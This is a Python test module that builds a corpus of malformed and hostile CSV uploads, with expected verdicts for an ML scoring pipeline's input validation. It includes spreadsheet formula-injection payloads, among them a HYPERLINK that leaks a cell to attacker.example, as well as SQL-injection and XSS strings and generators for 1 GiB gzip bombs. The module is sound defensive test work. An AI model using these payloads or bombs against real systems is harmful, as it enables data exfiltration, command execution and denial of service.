"""A deterministic corpus of malformed and hostile input files for the scoring function.

`hostile_corpus()` builds every file in memory (no randomness beyond seeded `datagen`), each with
the verdict scoring must reach: "scored" (perhaps partially: `bad_rows` rows dropped and listed in
a bad-rows report) or "rejected" with the FileRejected `kind` of the quarantine report. Apart from
what the two gzip bombs expand to (1 GiB each, compressed to about 1 MB), the corpus is a few MB,
so an end-to-end test can upload all of it to a local S3 quickly.

Formula injection (`=cmd|...`, `+`, `-`, `@`, tab and CR prefixes in a pass-through ID column)
must be *scored, and the IDs must come out in predictions verbatim* (correctly CSV-quoted, never
rewritten). The predictions file is data for programs that join it back to its input by ID; a
neutralising prefix (OWASP's leading `'`) would silently change legitimate IDs such as `-42`,
`+4917...` or `@handle`, break those joins and still not protect anyone who opens a file in a
spreadsheet, since the *input* file carries the same strings. Neutralisation belongs in whatever
renders a file for humans (a spreadsheet export), not in the data path. CSV quoting keeps every
value inside its own cell, which is the part the data path must get right.

Blank lines are not rows: a trailing empty line (common in exported or hand-edited files) or an
empty line between rows is skipped, not counted as a ragged row.

Hostile names count as much as hostile bytes: a line break in a key (it must not break an alert's
subject or forge a line of its message), a 1,000-byte key (its outputs' keys would pass S3's limit:
rejected with a report under a shortened name), an upper-case extension (scored like .csv). Some
hostility takes more than one upload: `hostile_scenarios()` are sequences of uploads whose events are
handled after the last one: a file overwritten before its first event, and a file named after
another's ETag, whose outputs lie under that other file's prefix.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from mlopsctl.datagen import generate

SCORED = "scored"
REJECTED = "rejected"

BOMB_EXPANDED_BYTES = 1 << 30  # what each gzip bomb decompresses to
LONG_KEY_BYTES = 1000  # incoming/ and the name: S3 takes the key, but not the keys of its outputs
FORMULA_IDS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1,=2+2",
    "'; DROP TABLE customers;--",
    "<script>alert(1)</script>",
)


@dataclass(frozen=True)
class CorpusFile:
    """One hostile input: its file name under incoming/, its bytes, and the verdict scoring must reach."""

    name: str
    body: bytes
    verdict: str  # "scored" | "rejected"
    kind: str | None = None  # the rejection report's kind (rejected files only)
    bad_rows: int = 0  # rows dropped into the bad-rows report (scored files only)
    note: str = ""

    def __post_init__(self) -> None:
        if (self.verdict == REJECTED) != (self.kind is not None):
            raise ValueError(f"{self.name}: a rejected file needs a kind, a scored one none")


@dataclass(frozen=True)
class CorpusScenario:
    """Uploads (name under incoming/, body) whose S3 events are handled only after the last upload, in
    upload order: every upload's content must end scored, under its own name and ETag, none losing another's
    outputs (in a versioned data bucket; without versioning an overwritten content ends superseded)."""

    name: str
    uploads: tuple[tuple[str, bytes], ...]
    note: str = ""


# ---------------------------------------------------------------------------- building blocks
def _good(rows: int = 200, *, seed: int = 1, label: bool = False) -> list[list[str]]:
    """Parsed rows (header first) of a good generated file."""
    return list(csv.reader(io.StringIO(generate(rows, seed=seed, with_label=label).decode())))


def _csv(rows: list[list[str]], *, eol: str = "\n", quote_all: bool = False, delimiter: str = ",") -> bytes:
    """RFC 4180 text. (Not csv.writer: with lineterminator "\n" it leaves a bare CR unquoted.)"""

    def field(v: str) -> str:
        if quote_all or any(c in v for c in (delimiter, '"', "\r", "\n")):
            return '"' + v.replace('"', '""') + '"'
        return v

    return "".join(delimiter.join(map(field, row)) + eol for row in rows).encode()


def _text(rows: list[list[str]]) -> str:
    return _csv(rows).decode()


def _set(rows: list[list[str]], column: str, values: dict[int, str]) -> list[list[str]]:
    """A copy with data row i (1-based) of `column` set to values[i]."""
    j = rows[0].index(column)
    out = [list(r) for r in rows]
    for i, v in values.items():
        out[i][j] = v
    return out


def _gzip_stream(head: bytes, filler: bytes, total: int) -> bytes:
    """gzip of `head` + `filler` repeated up to `total` bytes, compressed as a stream (never held expanded)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 31: a gzip container
    parts = [compressor.compress(head)]
    block = filler * ((1 << 20) // len(filler))
    remaining = total - len(head)
    while remaining > 0:
        piece = block[:remaining]
        parts.append(compressor.compress(piece))
        remaining -= len(piece)
    parts.append(compressor.flush())
    return b"".join(parts)


def _zip(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)  # fixed time: same bytes
    return buffer.getvalue()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\x00\xff\x00\x00" * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


# ---------------------------------------------------------------------------- the corpus
@cache
def hostile_corpus() -> tuple[CorpusFile, ...]:
    """Every hostile file, built deterministically (cached: the bombs take a few seconds to compress)."""
    good = _good()
    header = good[0]
    good_text = _text(good)
    labeled = _good(seed=2, label=True)
    files = [
        # ---- encodings
        CorpusFile("bom_utf8.csv", b"\xef\xbb\xbf" + good_text.encode(), SCORED, note="Excel 'CSV UTF-8'"),
        CorpusFile(
            "bom_utf8_twice.csv",
            b"\xef\xbb\xbf" * 2 + good_text.encode(),
            SCORED,
            note="the second BOM stays in the ID column's name, which is passed through",
        ),
        CorpusFile(
            "utf16_le_bom.csv",
            good_text.encode("utf-16"),
            REJECTED,
            "not_csv",
            note="Excel 'Unicode text': BOM FF FE, then zero bytes",
        ),
        CorpusFile("utf16_be_bom.csv", b"\xfe\xff" + good_text.encode("utf-16-be"), REJECTED, "not_csv"),
        CorpusFile("utf16_le_no_bom.csv", good_text.encode("utf-16-le"), REJECTED, "not_csv"),
        CorpusFile(
            "latin1.csv",
            _csv(_set(good, "customer_id", {3: "Müller-Zoë", 9: "Café"})).decode().encode("latin-1"),
            REJECTED,
            "not_utf8",
        ),
        CorpusFile(
            "cp1252_smart_quotes.csv",
            _csv(_set(good, "customer_id", {5: "\u201cVIP\u201d \u2013 gold"})).decode().encode("cp1252"),
            REJECTED,
            "not_utf8",
        ),
        CorpusFile(
            "latin1_after_4000_rows.csv",
            _csv(_set(_good(4000, seed=3), "customer_id", {3990: "Ångström"})).decode().encode("latin-1"),
            REJECTED,
            "not_utf8",
            note="the bad byte comes long after the first read buffer",
        ),
        # ---- delimiters and line endings
        CorpusFile("semicolons.csv", _csv(good, delimiter=";"), REJECTED, "missing_columns"),
        CorpusFile("tabs.csv", _csv(good, delimiter="\t"), REJECTED, "missing_columns"),
        CorpusFile(
            "decimal_commas.csv",
            _csv([[c.replace(".", ",") for c in r] for r in good], delimiter=";"),
            REJECTED,
            "missing_columns",
            note="European export: ';' between fields, ',' in numbers",
        ),
        CorpusFile(
            "trailing_delimiter.csv",
            "".join(line + ",\n" for line in good_text.splitlines()).encode(),
            SCORED,
            note="every line, header too: one extra unnamed column, passed through",
        ),
        CorpusFile("crlf.csv", _csv(good, eol="\r\n"), SCORED),
        CorpusFile("cr_only.csv", _csv(good, eol="\r"), SCORED, note="classic Mac OS line endings"),
        CorpusFile(
            "mixed_line_endings.csv",
            "".join(line + ("\r\n", "\n", "\r")[i % 3] for i, line in enumerate(good_text.splitlines())).encode(),
            SCORED,
        ),
        CorpusFile(
            "blank_lines.csv",
            (good_text.replace("\n", "\n\n", 20) + "\n\n").encode(),
            SCORED,
            note="empty lines between rows and at the end are skipped",
        ),
        CorpusFile(
            "trailing_blank_line_small.csv",
            generate(10, seed=4, with_label=False) + b"\n",
            SCORED,
            note="10 rows and the empty line many editors add: not 1 bad row in 11",
        ),
        # ---- quoting
        CorpusFile(
            "unbalanced_quote_last_row.csv",
            good_text.encode() + b'C9,"3,65.00,1,2.00,one-year,card\n',
            REJECTED,
            "bad_quoting",
        ),
        CorpusFile(
            "unbalanced_quote_mid_file.csv",
            _text(good[:50]).encode() + b'C9,"3,65.00,1,2.00,one-year,card\n' + _text(good[50:]).encode(),
            REJECTED,
            "field_too_long",
            note="the open quote swallows the rest of the file into one field",
        ),
        CorpusFile(
            "text_after_closing_quote.csv",
            _text(good[:20]).encode() + b'"C9"x,3,65.00,1,2.00,one-year,card\n',
            REJECTED,
            "bad_quoting",
        ),
        CorpusFile(
            "quoted_newlines.csv",
            _csv(
                _set(good, "customer_id", {1: "line\nbreak", 2: "crlf\r\nbreak", 3: "cr\rbreak", 4: 'say "hi", twice'})
            ),
            SCORED,
        ),
        CorpusFile("all_fields_quoted.csv", _csv(good, quote_all=True), SCORED),
        CorpusFile(
            "stray_quote_inside_field.csv",
            _text(good).replace("C00000007", 'C0000 "7" x').encode(),
            SCORED,
            note="a quote inside an unquoted field is an ordinary character",
        ),
        # ---- hostile strings in a pass-through column (kept verbatim, see the module docstring)
        CorpusFile(
            "formula_injection.csv",
            _csv(_set(good, "customer_id", {i + 1: v for i, v in enumerate(FORMULA_IDS)})),
            SCORED,
        ),
        # ---- numbers
        CorpusFile(
            "nan_inf_few.csv",
            _csv(
                _set(
                    _set(good, "tenure_months", {10: "nan", 20: "inf"}),
                    "monthly_charges",
                    {30: "1e309", 40: "-Infinity"},
                )
            ),
            SCORED,
            bad_rows=4,
        ),
        CorpusFile(
            "nan_inf_everywhere.csv",
            _csv(_set(good, "data_usage_gb", {i: ("NaN", "inf", "1e309", "-inf")[i % 4] for i in range(1, len(good))})),
            REJECTED,
            "too_many_bad_rows",
        ),
        CorpusFile(
            "thousands_separators.csv",
            _csv(_set(good, "monthly_charges", {i: "1,234.50" for i in range(1, len(good))})),
            REJECTED,
            "too_many_bad_rows",
        ),
        CorpusFile(
            "nul_deep_in_a_number.csv",
            _csv(_set(good, "support_calls", {150: "1\x002"})),
            SCORED,
            bad_rows=1,
            note="past the 4 KB sniffed for binary content: a bad value in one row",
        ),
        # ---- empty and nearly empty
        CorpusFile("empty.csv", b"", REJECTED, "empty"),
        CorpusFile("only_bom.csv", b"\xef\xbb\xbf", REJECTED, "empty"),
        CorpusFile("only_newlines.csv", b"\n" * 500 + b"\r\n" * 500, REJECTED, "empty"),
        CorpusFile("header_only.csv", (",".join(header) + "\n").encode(), REJECTED, "header_only"),
        CorpusFile("header_only_no_newline.csv", ",".join(header).encode(), REJECTED, "header_only"),
        CorpusFile("whitespace_header.csv", b"   \t  \n" + _text(good[1:]).encode(), REJECTED, "missing_columns"),
        # ---- structure
        CorpusFile(
            "ragged_few.csv",
            _csv([r[:4] if i in (7, 70) else [*r, "extra"] if i == 140 else r for i, r in enumerate(good)]),
            SCORED,
            bad_rows=3,
        ),
        CorpusFile(
            "ragged_many.csv",
            _csv([r[:-1] if i % 3 == 1 else r for i, r in enumerate(good)]),
            REJECTED,
            "too_many_bad_rows",
        ),
        CorpusFile("duplicate_columns.csv", _csv([[*r, r[1]] for r in good]), REJECTED, "duplicate_columns"),
        CorpusFile("missing_feature.csv", _csv([r[:5] + r[6:] for r in good]), REJECTED, "missing_columns"),
        CorpusFile(
            "header_capitalised.csv", _csv([[h.title() for h in header], *good[1:]]), REJECTED, "missing_columns"
        ),
        CorpusFile(
            "reordered_and_extra_columns.csv",
            _csv(
                [[r[6], r[2], "note" if i == 0 else f"n{i}", r[0], r[5], r[1], r[4], r[3]] for i, r in enumerate(good)]
            ),
            SCORED,
        ),
        CorpusFile("no_id_column.csv", _csv([r[1:] for r in good]), SCORED),
        CorpusFile(
            "unknown_categories.csv",
            _csv(_set(_set(good, "contract", {12: "weekly", 13: "One-Year"}), "payment_method", {99: "bitcoin"})),
            SCORED,
            bad_rows=3,
        ),
        CorpusFile("label_garbage_few.csv", _csv(_set(labeled, "churned", {5: "yes", 6: "2"})), SCORED, bad_rows=2),
        CorpusFile(
            "label_garbage_all.csv",
            _csv(_set(labeled, "churned", {i: ("yes", "no", "maybe", "TRUE")[i % 4] for i in range(1, len(labeled))})),
            REJECTED,
            "too_many_bad_rows",
            note="labels are optional, but a present label must be 0 or 1 (or empty)",
        ),
        # ---- sizes
        CorpusFile(
            "field_of_1000_chars.csv",
            _csv(_set(good, "customer_id", {1: "X" * 1000})),
            SCORED,
            note="exactly scoring.max_field_chars",
        ),
        CorpusFile(
            "oversized_field.csv",
            _csv(_set(good, "customer_id", {1: "X" * 1001})),
            REJECTED,
            "field_too_long",
            note="one character over scoring.max_field_chars",
        ),
        CorpusFile(
            "newlines_lost.csv",
            ",".join(",".join(r) for r in _good(75_000, seed=5)).encode(),
            REJECTED,
            "duplicate_columns",
            note="about 3 MB on one line: every row glued onto the header",
        ),
        CorpusFile(
            "one_huge_field.csv",
            (",".join(header) + "\n").encode() + b"9" * 500_000,
            REJECTED,
            "field_too_long",
            note="half a MB without a delimiter or newline",
        ),
        # ---- not CSV at all
        CorpusFile("nul_bytes.csv", b"\x00" * 4096, REJECTED, "not_csv"),
        CorpusFile("report.xlsx.csv", _zip("xl/worksheets/sheet1.xml", b"<worksheet/>"), REJECTED, "not_csv"),
        CorpusFile("zipped.csv", _zip("data.csv", good_text.encode()), REJECTED, "not_csv"),
        CorpusFile("png_image.csv", _png(), REJECTED, "not_csv"),
        CorpusFile(
            "pdf_document.csv",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
            REJECTED,
            "not_csv",
        ),
        CorpusFile("old_excel.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, REJECTED, "not_csv"),
        CorpusFile("gzip_named_csv.csv", gzip.compress(good_text.encode(), mtime=0), REJECTED, "not_csv"),
        CorpusFile(
            "json.csv",
            (
                b'[{"customer_id": "C1", "tenure_months": 3, "contract": "one-year"},\n'
                b' {"customer_id": "C2", "tenure_months": 4, "contract": "two-year"}]\n'
            ),
            REJECTED,
            "missing_columns",
        ),
        CorpusFile(
            "html_error_page.csv",
            b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n<body>nginx</body></html>\n",
            REJECTED,
            "missing_columns",
        ),
        # ---- gzip
        CorpusFile("not_gzip.csv.gz", good_text.encode(), REJECTED, "bad_gzip"),
        CorpusFile(
            "truncated.csv.gz", gzip.compress(_text(_good(2000, seed=6)).encode(), mtime=0)[:4000], REJECTED, "bad_gzip"
        ),
        CorpusFile(
            "multi_member.csv.gz",
            gzip.compress(_text(good[:100]).encode(), mtime=0) + gzip.compress(_text(good[100:]).encode(), mtime=0),
            SCORED,
            note="two gzip members, as `cat a.gz b.gz` makes",
        ),
        CorpusFile(
            "double_gzip.csv.gz",
            gzip.compress(gzip.compress(good_text.encode(), mtime=0), mtime=0),
            REJECTED,
            "not_csv",
        ),
        CorpusFile(
            "xlsx_gzipped.csv.gz", gzip.compress(_zip("data.csv", good_text.encode()), mtime=0), REJECTED, "not_csv"
        ),
        CorpusFile(
            "bomb.csv.gz",
            _gzip_stream((",".join(header) + "\n").encode(), b"0", BOMB_EXPANDED_BYTES),
            REJECTED,
            "line_too_long",
            note="1 GiB of '0' after the header, about 1 MB compressed: one line, stopped at 8 MiB",
        ),
        # ---- hostile names
        CorpusFile(
            "new\nline.csv",
            good_text.encode(),
            SCORED,
            note="a line break in the key: alerts escape it, their subjects drop it",
        ),
        CorpusFile(
            "long-key-" + "k" * (LONG_KEY_BYTES - len("incoming/long-key-.csv")) + ".csv",
            good_text.encode(),
            REJECTED,
            "key_too_long",
            note="a 1,000-byte key: its outputs' keys would pass S3's 1,024 bytes; the report has a shortened name",
        ),
        CorpusFile("UPPER.CSV", good_text.encode(), SCORED, note="an upper-case extension (Windows exports)"),
        CorpusFile(
            "newline_bomb.csv.gz",
            _gzip_stream((",".join(header) + "\n").encode(), b"\n", BOMB_EXPANDED_BYTES),
            REJECTED,
            "too_large",
            note="1 GiB of empty lines, about 1 MB compressed: stopped at scoring.max_file_bytes",
        ),
    ]
    names = [f.name for f in files]
    if len(set(names)) != len(names):
        raise ValueError("corpus file names must be unique")
    return tuple(files)


@cache
def hostile_scenarios() -> tuple[CorpusScenario, ...]:
    """Sequences of uploads (see CorpusScenario), built deterministically."""
    first, second = generate(40, seed=31, with_label=False), generate(70, seed=32, with_label=False)
    collided = generate(50, seed=33, with_label=False)
    etag = hashlib.md5(collided).hexdigest()  # a single-part upload's ETag: the MD5 of its bytes
    return (
        CorpusScenario(
            "overwritten",
            (("overwritten.csv", first), ("overwritten.csv", second)),
            note="written again before its first event was handled (no champion yet, or in the DLQ)",
        ),
        CorpusScenario(
            "prefix_collision",
            ((f"collided/{etag}-other.csv", generate(60, seed=34, with_label=False)), ("collided.csv", collided)),
            note="predictions/collided/<etag>-other/... lies under collided.csv's predictions/collided/<etag>-",
        ),
    )
